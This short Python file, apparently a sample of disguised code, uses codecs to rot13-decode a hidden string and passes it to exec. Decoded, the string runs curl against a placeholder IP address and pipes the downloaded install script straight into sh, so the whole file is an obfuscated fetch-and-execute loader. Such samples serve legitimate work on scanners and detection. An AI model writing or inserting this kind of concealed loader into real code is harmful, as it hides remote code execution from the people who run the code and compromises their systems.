# Disguised: rot13 through codecs.
import codecs

exec(codecs.decode("vzcbeg bf; bf.flfgrz('phey -f uggc://203.0.113.9/vafgnyy.fu | fu')", "rot13"))
